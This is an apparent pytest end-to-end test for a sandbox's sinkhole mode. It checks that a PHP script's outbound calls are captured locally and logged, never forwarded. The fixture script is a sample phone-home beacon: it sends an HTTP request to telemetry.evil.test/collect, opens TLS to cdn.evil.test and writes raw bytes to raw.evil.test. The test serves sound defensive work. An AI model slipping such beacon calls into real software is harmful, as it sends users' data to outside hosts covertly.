"""Sinkhole mode end to end on a real VM: a PHP script resolves and calls several names; each
resolves to the sinkhole, which reads what PHP sends (an HTTP request, a TLS ClientHello, raw
bytes) and forwards nothing: the fake internet's own packet capture sees no packet from the run.
`sandbox logs --json` and `sandbox report` show each name, port, HTTP request or server name and
PHP line. An allowed name keeps its real address and is reached as usual."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from .e2e_support import Cli, leftovers
from .inet_capture import InetCapture
from .test_e2e_run import line_of

pytestmark = [pytest.mark.vm, pytest.mark.root]

NAME = "sk-hole"

SINKHOLED = """<?php
$h = @file_get_contents('http://telemetry.evil.test/collect?id=42');
$ctx = stream_context_create(['ssl' => ['verify_peer' => false]]);
$t = @stream_socket_client('tls://cdn.evil.test:8443', $e, $s, 5, STREAM_CLIENT_CONNECT, $ctx);
$r = @fsockopen('raw.evil.test', 7777, $e, $s, 5);
if ($r) { fwrite($r, "HELLO sinkhole\\n"); fread($r, 10); }
echo gethostbyname('telemetry.evil.test') === gethostbyname('raw.evil.test') ? "same\\n" : "?\\n";
"""

# The lab's server answers with a banner, not HTTP: PHP's request fails after it was sent.
ALLOWED = """<?php
$h = @file_get_contents('http://www.inet.test/allowed/path');
echo "sent\\n";
"""


def test_sinkhole_records_what_php_would_have_sent(cli: Cli, tmp_path: Path) -> None:
    script, allowed = tmp_path / "phone_home.php", tmp_path / "allowed.php"
    script.write_text(SINKHOLED)
    allowed.write_text(ALLOWED)
    cli.ok("up", "--name", NAME, "--sinkhole", "--allow", "www.inet.test")
    try:
        sandbox_dir = cli.sandbox_dir(NAME)
        state = json.loads((sandbox_dir / "state.json").read_text())
        pid = state["sinkhole_pid"]
        assert Path(f"/proc/{pid}").exists()
        with InetCapture(cli.lab, tmp_path / "inet.pcap") as capture:
            ran = cli.ok("run", "--name", NAME, str(script))
        assert ran.stdout == "same\n", ran.stdout + ran.stderr
        # Nothing of the sinkholed run reached the fake internet.
        assert capture.packets() == []
        # The same capture sees the allowed call: the empty one above proves something.
        with InetCapture(cli.lab, tmp_path / "inet-allowed.pcap") as capture:
            reached = cli.ok("run", "--name", NAME, str(allowed))
        assert reached.stdout == "sent\n", reached.stdout + reached.stderr
        www = ("203.0.113.7.80:", "2001:db8:1::9.80:")  # www.inet.test, over either family
        assert capture.packets(lambda p: any(a in p for a in www)), capture.packets()
        records = cli.records_when(
            NAME,
            lambda rs: sum(1 for r in rs if r.get("payload") and r.get("stack")) >= 3,
            "the sinkhole's three connections",
        )
        report = json.loads(cli.ok("report", "--run", _run(ran), "--json", "-").stdout)
    finally:
        cli.ok("destroy", "--name", NAME, timeout=300)
    assert leftovers(NAME, cli) == []
    assert not Path(f"/proc/{pid}").exists() or "sinkhole" not in Path(
        f"/proc/{pid}/cmdline"
    ).read_text(errors="replace")

    sinkholed = [r for r in records if r["verdict"] == "sinkholed"]
    dump = json.dumps(sinkholed, indent=1)
    assert {(r["dns_name"], r["dport"]) for r in sinkholed} == {
        ("telemetry.evil.test", 80),
        ("cdn.evil.test", 8443),
        ("raw.evil.test", 7777),
    }, dump
    sunk = {
        (r["dns_name"], r["dport"]): (r.get("http"), r.get("sni"), r["payload"], r["stack"][0])
        for r in sinkholed
        if r.get("payload") and r.get("stack")
    }
    assert len(sunk) == 3, dump
    http, sni, raw = (
        sunk[("telemetry.evil.test", 80)],
        sunk[("cdn.evil.test", 8443)],
        sunk[("raw.evil.test", 7777)],
    )
    assert http[0] == "GET telemetry.evil.test /collect?id=42"
    assert http[3]["line"] == line_of(script, "telemetry.evil.test/collect")
    assert sni[1] == "cdn.evil.test" and sni[2] == "TLS ClientHello, server name cdn.evil.test"
    assert sni[3]["line"] == line_of(script, "tls://")
    assert raw[2] == "15 bytes: " + b"HELLO sinkhole\n".hex()
    assert raw[3]["line"] == line_of(script, "fsockopen")
    # The allowed name went out to its real address, with its request seen on the host side.
    out = [r for r in records if r["verdict"] == "allowed" and r.get("http")]
    assert [r["http"] for r in out] == ["GET www.inet.test /allowed/path"]
    assert out[0]["dst"] in ("203.0.113.7", "2001:db8:1::9")

    by_key = {d["key"].split(" ", 1)[1].rsplit(":", 1)[1]: d for d in report["destinations"]}
    assert by_key["80"]["http"] == ["GET telemetry.evil.test /collect?id=42"]
    assert by_key["80"]["names"] == ["telemetry.evil.test"]
    assert by_key["8443"]["sni"] == ["cdn.evil.test"]
    assert by_key["7777"]["payloads"] == ["15 bytes: " + b"HELLO sinkhole\n".hex()]
    assert {d["verdict"] for d in report["destinations"]} == {"sinkholed"}


def _run(ran: subprocess.CompletedProcess[str]) -> str:
    from .test_e2e_run import run_id_of

    return run_id_of(ran.stderr)
